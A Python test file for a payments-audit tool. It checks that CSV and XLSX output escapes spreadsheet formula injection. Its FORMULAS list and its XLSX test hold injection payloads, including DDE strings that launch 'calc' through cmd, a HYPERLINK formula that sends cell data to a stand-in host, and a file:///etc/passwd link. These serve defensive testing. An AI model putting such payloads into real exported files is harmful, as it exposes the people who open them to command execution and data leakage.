"""What is written to CSV and XLSX is never a formula."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from amp_rules.audit.payments import plaintext
from amp_rules.audit.payments.plaintext import CellOut, csv_writer, plain_text, write_xlsx
from amp_rules.audit.payments.sheets import SheetError, rows

FORMULAS = (
    "=1+1",
    "+46 70 123",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "|calc",
    "%0",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    '"=1',
    "'=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "−1+1",
    '=HYPERLINK("http://example.invalid?"&A1)',
    '=cmd|"/C calc"!A0',
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_as_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert plain_text(text).startswith("'")


@pytest.mark.parametrize("text", ["a;=1+1", "a,@x", 'a;"=1', "a; -1+1", "a|=1", "a\t=1", "a\n=1"])
def test_no_formula_begins_after_what_another_program_takes_for_the_end_of_a_cell(text: str) -> None:
    for delimiter in ",;\t|\n":
        parts = plain_text(text).split(delimiter)
        assert not any(part.lstrip(" \"'")[:1] in tuple("=+-@") and "'" not in part for part in parts)


@pytest.mark.parametrize("text", ["a-1", "2022-04-01", "71.00", "-71.00", "0", "Västerås", "", "a, b", "a=b"])
def test_plain_text_and_numbers_stay_as_they_are(text: str) -> None:
    assert plain_text(text) == text


def cells() -> st.SearchStrategy[CellOut]:
    return st.one_of(
        st.none(),
        st.text(),
        st.tuples(st.sampled_from(FORMULAS), st.text()).map("".join),
        st.booleans(),
        st.integers(-(10**20), 10**20),
        st.decimals(min_value=-(10**12), max_value=10**12, places=2),
        st.dates(),
    )


@given(st.lists(st.lists(cells(), min_size=2, max_size=2), max_size=5), st.sampled_from(",;\t"))
def test_no_cell_of_a_csv_file_is_a_formula(table: list[list[CellOut]], delimiter: str) -> None:
    stream = io.StringIO(newline="")
    write = csv_writer(stream, delimiter)
    for row in table:
        write(row)
    text = stream.getvalue()
    text.encode()
    assert text.count("\n") == len(table)
    for written, row in zip(csv.reader(io.StringIO(text), delimiter=delimiter), table, strict=True):
        assert len(written) == 2
        for cell, value in zip(written, row, strict=True):
            number = isinstance(value, int | Decimal) or plaintext._NUMBER.fullmatch(cell)
            assert number or cell.strip()[:1] not in tuple("=+-@\t\r|%＝＋－＠") or not cell.strip()


@given(st.decimals(min_value=-(10**12), max_value=10**12, places=2), st.integers())
def test_sums_are_written_to_csv_exactly(amount: Decimal, number: int) -> None:
    stream = io.StringIO()
    csv_writer(stream)([amount, number])
    one, other = stream.getvalue().strip().split(",")
    assert (Decimal(one), int(other)) == (amount, number)


def test_text_in_xlsx_is_text_with_no_formula_and_no_link(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    texts = [
        *FORMULAS,
        "http://example.invalid/x",
        "file:///etc/passwd",
        "internal:Sheet1!A1",
        "0071",
        "{=1}",
    ]
    assert write_xlsx(path, "Rows", [["text"], *([text] for text in texts)]) == len(texts) + 1
    with zipfile.ZipFile(path) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "hyperlink" not in sheet
        assert not [
            name for name in package.namelist() if "externalLink" in name or "sheet1.xml.rels" in name
        ]
    read = openpyxl.load_workbook(path)["Rows"]
    assert {cell.data_type for row in read.iter_rows(min_row=2) for cell in row} <= {"s", "inlineStr"}


def test_text_that_looks_like_a_formula_stays_text_when_it_is_edited(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write_xlsx(path, "Rows", [["text"], ["=1+1"], ["plain"]])
    sheet: Any = openpyxl.load_workbook(path)["Rows"]
    assert [sheet.cell(row, 1).quotePrefix for row in (2, 3)] == [True, False]


@given(st.lists(cells(), min_size=1, max_size=6))
def test_what_is_written_to_xlsx_is_read_back(
    tmp_path_factory: pytest.TempPathFactory, row: list[CellOut]
) -> None:
    path = tmp_path_factory.mktemp("x") / "t.xlsx"
    late = [each for each in row if not isinstance(each, datetime.date) or each.year >= 1901]
    write_xlsx(path, "Rows", [[f"c{place}" for place in range(len(late) + 1)], [*late, "end"]])
    (found,) = rows(path)
    for value, cell in zip(late, found.cells.values(), strict=False):
        if isinstance(value, str):
            assert cell == (plaintext._CONTROLS.sub(" ", value) or None)
        elif isinstance(value, bool | datetime.date) or value is None:
            assert cell == value
            assert type(cell) is type(value)
        else:
            assert isinstance(cell, int | Decimal | str)
            assert Decimal(cell) == value


def test_more_rows_than_a_sheet_has_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(plaintext, "LAST_ROW", 3)
    with pytest.raises(SheetError, match="more than 3 rows"):
        write_xlsx(tmp_path / "t.xlsx", "Rows", [["a"]] * 4)


def test_text_too_long_for_a_cell_is_cut_and_not_lost(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write_xlsx(path, "Rows", [["text"], ["x" * 40_000]])
    (row,) = rows(path)
    assert row.cells["text"] == "x" * 32_767
